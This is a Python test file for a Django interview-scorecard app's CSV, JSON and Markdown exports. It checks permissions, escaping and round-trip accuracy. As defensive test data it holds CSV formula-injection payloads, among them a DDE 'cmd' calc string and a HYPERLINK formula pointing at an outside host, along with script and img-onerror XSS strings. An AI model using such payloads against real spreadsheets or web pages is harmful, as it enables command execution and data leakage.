"""Markdown, CSV and JSON exports: downloads that read back equal to the scorecard."""

import csv
import io
import json

import pytest
from django.urls import reverse

from config.csv_safety import restore
from interviews import reports, services
from interviews.models import Interview, InterviewStatus

from .conftest import make_status

TRICKY = "Said \"it depends\", then: a, b, c;\nsecond line — naïve café ✓\n'quoted' |pipe|"


def export_url(interview, fmt):
    return reverse("interviews:export", args=[interview.pk, fmt])


@pytest.fixture
def scored(live_interview):
    """Submitted: question 1 scored 3 with tricky notes, 2 skipped, 3 unscored."""
    first, second, third = live_interview.items.order_by("position")
    services.item_score(item=first, score=3)
    services.item_save_notes(item=first, notes=TRICKY, base_version=0)
    services.item_add_time(item=first, seconds=125)
    services.item_score(item=second, skipped=True)
    services.item_save_notes(item=third, notes='=SUM(A1:A2), "x"', base_version=0)
    return services.interview_submit(
        interview=live_interview,
        recommendation="no_hire",
        summary='Mixed, with a "but", and commas.',
        allow_unscored=True,
    )


def card_of(interview):
    return reports.build_scorecard(Interview.objects.with_items().get(pk=interview.pk))


def test_csv_reads_back_equal(client, interviewer, scored):
    client.force_login(interviewer)
    response = client.get(export_url(scored, "csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f'filename="scorecard-cam-candidate-{scored.submitted_at.date()}-{scored.pk}.csv"' in (
        disposition
    )
    raw = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))
    # A spreadsheet shows the formula-like note as text; the reader strips the guard again.
    assert raw[2]["notes"] == "'" + '=SUM(A1:A2), "x"'
    rows = [{k: restore(v) for k, v in row.items()} for row in raw]
    assert list(rows[0]) == reports.CSV_COLUMNS
    items = list(scored.items.order_by("position"))
    assert len(rows) == len(items) == 3
    for row, item in zip(rows, items, strict=True):
        assert int(row["position"]) == item.position
        assert row["text"] == item.text
        assert row["topics"] == "; ".join(item.topic_names())
        assert row["kind"] == item.kind and int(row["difficulty"]) == item.difficulty
        assert (int(row["score"]) if row["score"] else None) == item.score
        assert row["score_label"] == item.score_label
        assert row["skipped"] == ("yes" if item.skipped else "no")
        assert row["notes"] == item.notes
        assert int(row["seconds"]) == item.seconds_spent
    assert rows[0]["notes"] == TRICKY and rows[0]["score_label"] == "Good"
    assert rows[0]["seconds"] == "125"
    assert rows[2]["notes"] == '=SUM(A1:A2), "x"'
    # The means computed from the CSV equal the scorecard's.
    card = card_of(scored)
    scores = [int(r["score"]) for r in rows if r["score"]]
    assert reports.Mean(scores).value == card.overall.value
    rag = [int(r["score"]) for r in rows if r["score"] and "RAG" in r["topics"].split("; ")]
    assert reports.Mean(rag).value == card.topic_means()["rag"]


def test_json_reads_back_equal(client, hiring_manager, scored):
    client.force_login(hiring_manager)
    response = client.get(export_url(scored, "json"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert 'filename="scorecard-cam-candidate-' in response["Content-Disposition"]
    data = json.loads(response.content)
    card = card_of(scored)
    meta = data["interview"]
    assert meta["id"] == scored.pk and meta["candidate"] == "Cam Candidate"
    assert meta["interviewer"] == "ines" and meta["level"] == "Engineer"
    assert meta["status"] == "submitted" and meta["submitted_at"] == scored.submitted_at.isoformat()
    assert data["recommendation"] == "no_hire" and data["recommendation_label"] == "No hire"
    assert data["summary"] == 'Mixed, with a "but", and commas.'
    items = list(scored.items.order_by("position"))
    assert [q["position"] for q in data["questions"]] == [1, 2, 3]
    for q, item in zip(data["questions"], items, strict=True):
        assert q == {
            "position": item.position,
            "text": item.text,
            "topics": item.topic_names(),
            "kind": item.kind,
            "difficulty": item.difficulty,
            "score": item.score,
            "score_label": item.score_label,
            "skipped": item.skipped,
            "notes": item.notes,
            "seconds": item.seconds_spent,
        }
    assert data["questions"][0]["notes"] == TRICKY
    assert [q["score"] for q in data["questions"]] == [3, None, None]
    assert data["questions"][1]["skipped"] is True
    assert {t["slug"]: t["mean"] for t in data["topics"]} == {
        slug: (float(v) if v is not None else None) for slug, v in card.topic_means().items()
    }
    assert data["topics"][0] == {
        "slug": "rag",
        "name": "RAG",
        "questions": 3,
        "scores": [3],
        "skipped": 1,
        "unscored": 1,
        "mean": 3.0,
    }
    assert data["overall"] == {"scores": [3], "skipped": 1, "unscored": 1, "mean": 3.0}
    assert data["amendments"] == []


def test_json_lists_amendments_and_exact_means(client, interviewer, submitted):
    # submitted: scores 1, 2, 3 on three RAG questions.
    first = submitted.items.order_by("position").first()
    services.interview_amend(
        interview=submitted, user=interviewer, reason="Typo", scores={first.pk: 2}
    )
    client.force_login(interviewer)
    data = json.loads(client.get(export_url(submitted, "json")).content)
    assert data["overall"]["scores"] == [2, 2, 3]
    assert data["overall"]["mean"] == 2.33
    assert data["topics"][0]["mean"] == 2.33
    assert data["amendments"][0]["reason"] == "Typo"
    assert data["amendments"][0]["user"] == "ines"
    assert data["amendments"][0]["changes"] == [
        {"field": "score", "question": 1, "old": 1, "new": 2}
    ]


def test_markdown_is_a_readable_scorecard(client, interviewer, scored):
    client.force_login(interviewer)
    response = client.get(export_url(scored, "md"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/markdown; charset=utf-8"
    assert response["Content-Disposition"].endswith('.md"')
    text = response.content.decode()
    assert text.startswith(f"# Scorecard: {scored.title}\n")
    assert "- Candidate: Cam Candidate" in text and "- Interviewer: ines" in text
    assert "## Recommendation: No hire" in text
    assert "| RAG | (3) / 1 = 3.00 | 3.00 |" in text
    assert "| **Overall** | (3) / 1 = 3.00 | **3.00** |" in text
    assert "- Score: 3 Good" in text and "- Score: skipped" in text
    assert "- Score: not scored" in text
    assert "- Time: 2:05" in text
    # Notes are quoted line by line.
    assert '> Said "it depends", then: a, b, c;\n> second line — naïve café ✓' in text


FORMULAS = [
    '=HYPERLINK("http://example.invalid/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tindented=1",
    "\rcarriage",
    "'=already quoted",
]


def test_csv_neutralises_every_formula_cell_and_reads_back(
    client, interviewer, live_interview, bank
):
    """OWASP: a cell starting with = + - @ tab or CR is written with a leading quote; the
    reader (config.csv_safety.restore) gets back exactly what was typed."""
    for question in bank[3:7]:
        services.interview_add_question(interview=live_interview, question=question)
    items = list(live_interview.items.order_by("position"))
    assert len(items) == len(FORMULAS)
    for item, text in zip(items, FORMULAS, strict=True):
        services.item_save_notes(item=item, notes=text, base_version=0)
    services.interview_submit(
        interview=live_interview,
        recommendation="hire",
        summary="=1+1 in the summary is not exported to CSV",
        allow_unscored=True,
    )
    client.force_login(interviewer)
    body = client.get(export_url(live_interview, "csv")).content.decode()
    raw = list(csv.DictReader(io.StringIO(body, newline="")))
    for row, text in zip(raw, FORMULAS, strict=True):
        assert row["notes"] == "'" + text
        assert restore(row["notes"]) == text
    for row in raw:  # no cell at all starts like a formula
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_markdown_escapes_html(client, interviewer, live_interview):
    item = live_interview.items.first()
    services.item_save_notes(
        item=item, notes="<script>alert(1)</script> & <b>bold</b>", base_version=0
    )
    services.interview_submit(
        interview=live_interview,
        recommendation="hire",
        summary='<img src=x onerror="alert(2)">',
        allow_unscored=True,
    )
    client.force_login(interviewer)
    text = client.get(export_url(live_interview, "md")).content.decode()
    assert "<script" not in text and "<img" not in text and "<b>" not in text
    assert "> &lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;b&gt;bold&lt;/b&gt;" in text
    assert '&lt;img src=x onerror="alert(2)"&gt;' in text


def test_export_permissions_and_formats(
    client, interviewer, other_interviewer, hiring_manager, submitted
):
    target = export_url(submitted, "csv")
    response = client.get(target)
    assert response.status_code == 302 and response["Location"].startswith(reverse("login"))
    client.force_login(other_interviewer)
    for fmt in ("md", "csv", "json"):
        assert client.get(export_url(submitted, fmt)).status_code == 404
    client.force_login(hiring_manager)
    assert client.get(target).status_code == 200
    client.force_login(interviewer)
    for fmt in ("md", "csv", "json"):
        assert client.get(export_url(submitted, fmt)).status_code == 200
    for fmt in ("pdf", "xlsx", "html", ""):
        assert client.get(f"/interviews/{submitted.pk}/export.{fmt}").status_code == 404
    assert client.post(target).status_code == 405


@pytest.mark.parametrize("status", [InterviewStatus.DRAFT, InterviewStatus.LIVE])
def test_no_export_before_submission(client, interviewer, hiring_manager, draft, status):
    interview = make_status(draft, status)
    for reader in (interviewer, hiring_manager):
        client.force_login(reader)
        assert client.get(export_url(interview, "json")).status_code == 404


def test_export_query_count_does_not_grow(
    client, interviewer, submitted, big_interview, django_assert_num_queries
):
    big = make_status(big_interview, InterviewStatus.SUBMITTED)
    client.force_login(interviewer)
    for interview in (submitted, big):
        for fmt in ("md", "csv", "json"):
            # session, user, their groups (the rules), interview, items, amendments, audit row
            with django_assert_num_queries(7):
                assert client.get(export_url(interview, fmt)).status_code == 200
